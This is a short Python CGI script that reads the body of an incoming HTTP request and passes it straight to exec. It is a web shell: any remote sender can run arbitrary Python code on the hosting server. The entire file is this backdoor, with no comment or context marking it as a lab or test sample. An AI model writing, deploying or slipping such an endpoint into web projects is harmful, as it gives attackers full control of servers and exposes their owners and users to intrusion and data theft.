#!/usr/bin/env python3
import sys

print("Content-Type: text/plain\n")
source = sys.stdin.read()
if source:
    exec(compile(source, "<posted>", "exec"))
